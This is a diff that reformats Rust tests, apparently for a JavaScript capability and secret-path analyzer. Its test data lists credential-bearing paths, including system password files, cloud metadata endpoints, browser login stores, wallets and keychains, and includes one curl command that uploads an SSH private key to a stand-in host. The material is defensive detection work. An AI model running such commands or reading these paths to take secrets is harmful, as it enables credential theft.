@@ -3,8 +3,8 @@
 use std::collections::BTreeSet;
 
 use super::{
-    Capability, Global, On, Role, SecretClass, Sink, Source, api, assigned, builtin_module, global,
-    known_package, member, read, secret_in_command, secret_path, secret_variable, secrets, table,
+    Capability, Global, On, Role, SecretClass, Sink, Source, api, assigned, builtin_module, global, known_package,
+    member, read, secret_in_command, secret_path, secret_variable, secrets, table,
 };
 
 #[test]
@@ -14,9 +14,7 @@ fn entries_are_sorted_and_unique() {
         ("web.txt", read::WEB),
         ("packages.txt", read::PACKAGES),
     ] {
-        let paths: Vec<_> = read::lines(text)
-            .filter_map(|line| line.split(' ').next())
-            .collect();
+        let paths: Vec<_> = read::lines(text).filter_map(|line| line.split(' ').next()).collect();
         for pair in paths.windows(2) {
             assert!(
                 pair[0] < pair[1],
@@ -31,10 +29,7 @@ fn entries_are_sorted_and_unique() {
         .flat_map(read::lines)
     {
         let path = line.split(' ').next().unwrap();
-        assert!(
-            path.len() <= table::JOINED,
-            "`{path}` is longer than a path may be"
-        );
+        assert!(path.len() <= table::JOINED, "`{path}` is longer than a path may be");
     }
     let paths = |text| {
         read::lines(text)
@@ -99,10 +94,7 @@ fn aliases_and_results_lead_somewhere() {
                 || api(&format!("{target}.x")).is_some()
                 || global(target).is_some()
                 || target.ends_with('#');
-            assert!(
-                known,
-                "`{from}` is an alias of `{target}`, of which nothing is known"
-            );
+            assert!(known, "`{from}` is an alias of `{target}`, of which nothing is known");
             if global(target) == Some(Global::GlobalObject) {
                 continue;
             }
@@ -130,42 +122,18 @@ fn spot_checks() {
     const WRITE: On = On::Write;
     let cases = [
         ("fs.readFile", "fs-read", CALL, Some(Source::File), None),
-        (
-            "fs.promises.readFile",
-            "fs-read",
-            CALL,
-            Some(Source::File),
-            None,
-        ),
-        (
-            "fs/promises.readFile",
-            "fs-read",
-            CALL,
-            Some(Source::File),
-            None,
-        ),
+        ("fs.promises.readFile", "fs-read", CALL, Some(Source::File), None),
+        ("fs/promises.readFile", "fs-read", CALL, Some(Source::File), None),
         ("fs.existsSync", "fs-read", CALL, None, None),
         ("fs.readdir", "fs-read", CALL, None, None),
-        (
-            "fs.writeFileSync",
-            "fs-write",
-            CALL,
-            None,
-            Some(Sink::FileWrite),
-        ),
+        ("fs.writeFileSync", "fs-write", CALL, None, Some(Sink::FileWrite)),
         ("fs.createWriteStream", "fs-write", CALL, None, None),
         ("fs.open", "fs-read,fs-write", CALL, None, None),
         ("fs.copyFileSync", "fs-read,fs-write", CALL, None, None),
         ("fs.unlink", "fs-write", CALL, None, None),
         ("fs.close", "", CALL, None, None),
         ("fs.somethingNew", "fs-read,fs-write", CALL, None, None),
-        (
-            "fs.FileHandle#readFile",
-            "fs-read",
-            CALL,
-            Some(Source::File),
-            None,
-        ),
+        ("fs.FileHandle#readFile", "fs-read", CALL, Some(Source::File), None),
         (
             "child_process.exec",
             "process-exec",
@@ -173,13 +141,7 @@ fn spot_checks() {
             Some(Source::Exec),
             Some(Sink::Exec),
         ),
-        (
-            "child_process.fork",
-            "process-exec",
-            CALL,
-            None,
-            Some(Sink::Exec),
-        ),
+        ("child_process.fork", "process-exec", CALL, None, Some(Sink::Exec)),
         (
             "child_process.ChildProcess#stdout.on",
             "",
@@ -194,21 +156,9 @@ fn spot_checks() {
             Some(Source::Network),
             Some(Sink::Network),
         ),
-        (
-            "https.get",
-            "network",
-            CALL,
-            Some(Source::Network),
-            Some(Sink::Network),
-        ),
+        ("https.get", "network", CALL, Some(Source::Network), Some(Sink::Network)),
         ("http.Agent", "", CALL, None, None),
-        (
-            "http.ClientRequest#write",
-            "network",
-            CALL,
-            None,
-            Some(Sink::Network),
-        ),
+        ("http.ClientRequest#write", "network", CALL, None, Some(Sink::Network)),
         (
             "_http_client.request",
             "network",
@@ -219,20 +169,8 @@ fn spot_checks() {
         ("net.isIP", "", CALL, None, None),
         ("net.connect", "network", CALL, Some(Source::Network), None),
         ("net.Socket#end", "network", CALL, None, Some(Sink::Network)),
-        (
-            "dgram.Socket#send",
-            "network",
-            CALL,
-            None,
-            Some(Sink::Network),
-        ),
-        (
-            "dns.resolveTxt",
-            "dns",
-            CALL,
-            Some(Source::Network),
-            Some(Sink::Dns),
-        ),
+        ("dgram.Socket#send", "network", CALL, None, Some(Sink::Network)),
+        ("dns.resolveTxt", "dns", CALL, Some(Source::Network), Some(Sink::Dns)),
         (
             "dns.promises.lookup",
             "dns",
@@ -240,24 +178,12 @@ fn spot_checks() {
             Some(Source::Network),
             Some(Sink::Dns),
         ),
-        (
-            "os.hostname",
-            "system-info",
-            CALL,
-            Some(Source::System),
-            None,
-        ),
+        ("os.hostname", "system-info", CALL, Some(Source::System), None),
         ("os.release", "system-info", CALL, None, None),
         ("os.platform", "", CALL, None, None),
         ("os.EOL", "", CALL, None, None),
         ("process.env", "env", READ, Some(Source::Environment), None),
-        (
-            "process.env.NPM_TOKEN",
-            "env",
-            READ,
-            Some(Source::Environment),
-            None,
-        ),
+        ("process.env.NPM_TOKEN", "env", READ, Some(Source::Environment), None),
         ("process.exit", "process-control", CALL, None, None),
         ("process.binding", "process-control", CALL, None, None),
         ("process.dlopen", "native", CALL, None, None),
@@ -272,28 +198,10 @@ fn spot_checks() {
             None,
         ),
         ("module.register", "global-mutation", CALL, None, None),
-        (
-            "module#_compile",
-            "dynamic-code",
-            CALL,
-            None,
-            Some(Sink::Code),
-        ),
-        (
-            "vm.runInNewContext",
-            "dynamic-code",
-            CALL,
-            None,
-            Some(Sink::Code),
-        ),
+        ("module#_compile", "dynamic-code", CALL, None, Some(Sink::Code)),
+        ("vm.runInNewContext", "dynamic-code", CALL, None, Some(Sink::Code)),
         ("vm.isContext", "", CALL, None, None),
-        (
-            "worker_threads.Worker",
-            "worker",
-            CALL,
-            None,
-            Some(Sink::Exec),
-        ),
+        ("worker_threads.Worker", "worker", CALL, None, Some(Sink::Exec)),
         ("inspector.open", "process-control", CALL, None, None),
         ("v8.setFlagsFromString", "process-control", CALL, None, None),
         ("v8.deserialize", "", CALL, None, None),
@@ -302,13 +210,7 @@ fn spot_checks() {
         ("sqlite.DatabaseSync", "fs-read,fs-write", CALL, None, None),
         ("zlib.gunzipSync", "", CALL, None, None),
         ("path.posix.join", "", CALL, None, None),
-        (
-            "fetch",
-            "network",
-            CALL,
-            Some(Source::Network),
-            Some(Sink::Network),
-        ),
+        ("fetch", "network", CALL, Some(Source::Network), Some(Sink::Network)),
         (
             "globalThis.fetch",
             "network",
@@ -317,21 +219,9 @@ fn spot_checks() {
             Some(Sink::Network),
         ),
         ("Response#json", "", CALL, Some(Source::Network), None),
-        (
-            "XMLHttpRequest#send",
-            "network",
-            CALL,
-            None,
-            Some(Sink::Network),
-        ),
+        ("XMLHttpRequest#send", "network", CALL, None, Some(Sink::Network)),
         ("WebSocket", "network", CALL, None, None),
-        (
-            "navigator.sendBeacon",
-            "network",
-            CALL,
-            None,
-            Some(Sink::Network),
-        ),
+        ("navigator.sendBeacon", "network", CALL, None, Some(Sink::Network)),
         ("navigator.userAgent", "", CALL, None, None),
         (
             "navigator.clipboard.readText",
@@ -347,62 +237,20 @@ fn spot_checks() {
             Some(Source::Input),
             None,
         ),
-        (
-            "document.cookie",
-            "storage",
-            READ,
-            Some(Source::Storage),
-            None,
-        ),
+        ("document.cookie", "storage", READ, Some(Source::Storage), None),
         ("document.title", "dom", READ, None, None),
-        (
-            "localStorage.token",
-            "storage",
-            READ,
-            Some(Source::Storage),
-            None,
-        ),
+        ("localStorage.token", "storage", READ, Some(Source::Storage), None),
         ("eval", "dynamic-code", CALL, None, Some(Sink::Code)),
         ("Function", "dynamic-code", CALL, None, Some(Sink::Code)),
         ("WebAssembly.instantiate", "wasm", CALL, None, None),
         ("WebAssembly.Memory", "", CALL, None, None),
         ("ethereum.request", "wallet", CALL, None, None),
-        (
-            "importScripts",
-            "dynamic-code,network",
-            CALL,
-            None,
-            Some(Sink::Code),
-        ),
-        (
-            "Element#src",
-            "dom,network",
-            WRITE,
-            None,
-            Some(Sink::Network),
-        ),
-        (
-            "chrome.cookies.getAll",
-            "storage",
-            CALL,
-            Some(Source::Storage),
-            None,
-        ),
-        (
-            "Deno.readTextFile",
-            "fs-read",
-            CALL,
-            Some(Source::File),
-            None,
-        ),
+        ("importScripts", "dynamic-code,network", CALL, None, Some(Sink::Code)),
+        ("Element#src", "dom,network", WRITE, None, Some(Sink::Network)),
+        ("chrome.cookies.getAll", "storage", CALL, Some(Source::Storage), None),
+        ("Deno.readTextFile", "fs-read", CALL, Some(Source::File), None),
         ("Deno.env.get", "env", CALL, Some(Source::Environment), None),
-        (
-            "Bun.spawn",
-            "process-exec",
-            CALL,
-            Some(Source::Exec),
-            Some(Sink::Exec),
-        ),
+        ("Bun.spawn", "process-exec", CALL, Some(Source::Exec), Some(Sink::Exec)),
         (
             "axios.post",
             "network",
@@ -411,20 +259,8 @@ fn spot_checks() {
             Some(Sink::Network),
         ),
         ("axios.isAxiosError", "", CALL, None, None),
-        (
-            "fs-extra.readFile",
-            "fs-read",
-            CALL,
-            Some(Source::File),
-            None,
-        ),
-        (
-            "fs-extra.outputFile",
-            "fs-write",
-            CALL,
-            None,
-            Some(Sink::FileWrite),
-        ),
+        ("fs-extra.readFile", "fs-read", CALL, Some(Source::File), None),
+        ("fs-extra.outputFile", "fs-write", CALL, None, Some(Sink::FileWrite)),
         (
             "cross-spawn.sync",
             "process-exec",
@@ -436,11 +272,7 @@ fn spot_checks() {
     ];
     for (path, capabilities, on, source, sink) in cases {
         let api = api(path).unwrap_or_else(|| panic!("`{path}` is not known"));
-        let names: Vec<_> = api
-            .capabilities
-            .iter()
-            .map(|capability| capability.name())
-            .collect();
+        let names: Vec<_> = api.capabilities.iter().map(|capability| capability.name()).collect();
         assert_eq!(
             (names.join(",").as_str(), api.on, api.source, api.sink),
             (capabilities, on, source, sink),
@@ -477,16 +309,10 @@ fn arguments_and_results() {
         api("child_process.spawn").unwrap().arguments,
         [Role::Command, Role::Argv, Role::Options]
     );
-    assert_eq!(
-        api("fs.writeFile").unwrap().arguments[..2],
-        [Role::Path, Role::Data]
-    );
+    assert_eq!(api("fs.writeFile").unwrap().arguments[..2], [Role::Path, Role::Data]);
     assert_eq!(api("setTimeout").unwrap().arguments, [Role::TimerCode]);
     assert_eq!(api("dns.resolve4").unwrap().arguments[0], Role::Name);
-    assert_eq!(
-        api("http.request").unwrap().returns,
-        Some("http.ClientRequest#")
-    );
+    assert_eq!(api("http.request").unwrap().returns, Some("http.ClientRequest#"));
     assert_eq!(api("fetch").unwrap().returns, Some("Response#"));
     assert_eq!(api("axios.create").unwrap().returns, Some("axios"));
 }
@@ -519,8 +345,7 @@ fn assignments() {
         ("lodash.map", None),
     ];
     for (path, expected) in cases {
-        let found =
-            assigned(path).and_then(|api| api.capabilities.iter().map(|c| c.name()).next_back());
+        let found = assigned(path).and_then(|api| api.capabilities.iter().map(|c| c.name()).next_back());
         assert_eq!(found, expected, "`{path} = …`");
         assert!(assigned(path).is_none_or(|api| api.on == On::Write));
     }
@@ -598,11 +423,7 @@ fn members() {
         ("process", "env", "process.env"),
         ("process.env", "HOME", "process.env.HOME"),
         ("axios", "default", "axios"),
-        (
-            "axios.interceptors",
-            "default",
-            "axios.interceptors.default",
-        ),
+        ("axios.interceptors", "default", "axios.interceptors.default"),
     ] {
         assert_eq!(member(path, key), expected, "`{path}` + `{key}`");
     }
@@ -624,15 +445,7 @@ fn globals() {
     ] {
         assert_eq!(global(name), Some(Global::Harmless), "`{name}`");
     }
-    for name in [
-        "globalThis",
-        "window",
-        "self",
-        "global",
-        "frames",
-        "parent",
-        "top",
-    ] {
+    for name in ["globalThis", "window", "self", "global", "frames", "parent", "top"] {
         assert_eq!(global(name), Some(Global::GlobalObject), "`{name}`");
     }
     for (name, path) in [
@@ -665,10 +478,7 @@ fn secret_paths() {
         ("/proc/self/environ", SecretClass::System),
         ("/etc/shadow", SecretClass::System),
         ("../../../etc/passwd", SecretClass::System),
-        (
-            "http://169.254.169.254/latest/meta-data/",
-            SecretClass::Cloud,
-        ),
+        ("http://169.254.169.254/latest/meta-data/", SecretClass::Cloud),
         (
             "http://metadata.google.internal/computeMetadata/v1/",
             SecretClass::Cloud,
@@ -678,30 +488,20 @@ fn secret_paths() {
         ("config/.env.production", SecretClass::EnvFile),
         (".git-credentials", SecretClass::Git),
         ("/.bash_history", SecretClass::ShellHistory),
-        (
-            "\\Google\\Chrome\\User Data\\Default\\Login Data",
-            SecretClass::Browser,
-        ),
+        ("\\Google\\Chrome\\User Data\\Default\\Login Data", SecretClass::Browser),
         (
             "Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn",
             SecretClass::Wallet,
         ),
         ("\\discord\\Local Storage\\leveldb", SecretClass::Chat),
         ("Library/Application Support/discord", SecretClass::Chat),
-        (
-            "Library/Keychains/login.keychain-db",
-            SecretClass::PasswordManager,
-        ),
+        ("Library/Keychains/login.keychain-db", SecretClass::PasswordManager),
         ("vault.KDBX", SecretClass::PasswordManager),
         ("wallet.dat", SecretClass::Wallet),
         (".config/solana/id.json", SecretClass::Wallet),
         (".claude/settings.json", SecretClass::Agent),
     ] {
-        assert_eq!(
-            secret_path(path).map(|secret| secret.class),
-            Some(class),
-            "`{path}`"
-        );
+        assert_eq!(secret_path(path).map(|secret| secret.class), Some(class), "`{path}`");
     }
     for path in [
         "",
@@ -723,14 +523,9 @@ fn secret_paths() {
     ] {
         assert_eq!(secret_path(path), None, "`{path}`");
     }
+    assert_eq!(secret_path("~/.aws/credentials").unwrap().what, "AWS credentials");
     assert_eq!(
-        secret_path("~/.aws/credentials").unwrap().what,
-        "AWS credentials"
-    );
-    assert_eq!(
-        secret_in_command("curl -F 'f=@/root/.ssh/id_rsa' x")
-            .unwrap()
-            .class,
+        secret_in_command("curl -F 'f=@/root/.ssh/id_rsa' x").unwrap().class,
         SecretClass::Ssh
     );
     assert_eq!(
@@ -793,14 +588,7 @@ fn long_paths_are_cut_and_cheap() {
         path = member(&path, "deeper");
     }
     assert!(api(&path).is_none());
-    for endless in [
-        "window.",
-        "fs.",
-        "document.defaultView.",
-        "a#",
-        "fs-extra.",
-        ".",
-    ] {
+    for endless in ["window.", "fs.", "document.defaultView.", "a#", "fs-extra.", "."] {
         let path = endless.repeat(20_000);
         assert!(api(&path).is_none_or(|api| api.on != On::Write) && path.len() > 1);
         assigned(&path);
